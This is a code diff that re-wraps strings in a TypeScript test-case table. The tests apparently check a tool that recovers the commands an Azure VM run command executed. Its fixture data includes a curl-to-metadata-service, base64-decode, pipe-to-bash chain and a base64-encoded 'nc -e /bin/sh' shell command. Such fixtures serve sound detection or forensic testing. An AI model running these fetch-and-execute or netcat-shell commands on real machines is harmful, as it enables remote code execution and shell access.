@@ -119,11 +119,14 @@ const CASES: readonly Case[] = [
     activity: runCommand(),
     resources: {
       [`${VM}/runCommands/update`]: script(
-        'curl -H Metadata:true http://169.254.169.254/metadata/instance/compute/userData?api-version=2021-01-01 | base64 -d | bash',
+        'curl -H Metadata:true http://169.254.169.254/metadata/instance/compute/userData?api-version=2021-01-01 ' +
+          '| base64 -d | bash',
       ),
       [VM]: { properties: { userData: Buffer.from('nc -e /bin/sh').toString('base64') } },
     },
-    text: 'curl -H Metadata:true http://169.254.169.254/metadata/instance/compute/userData?api-version=2021-01-01 | base64 -d | bash\nnc -e /bin/sh',
+    text:
+      'curl -H Metadata:true http://169.254.169.254/metadata/instance/compute/userData?api-version=2021-01-01 | ' +
+      'base64 -d | bash\nnc -e /bin/sh',
     asked: [`${VM}/runCommands/update instanceView`, `${VM} userData`],
   },
   {
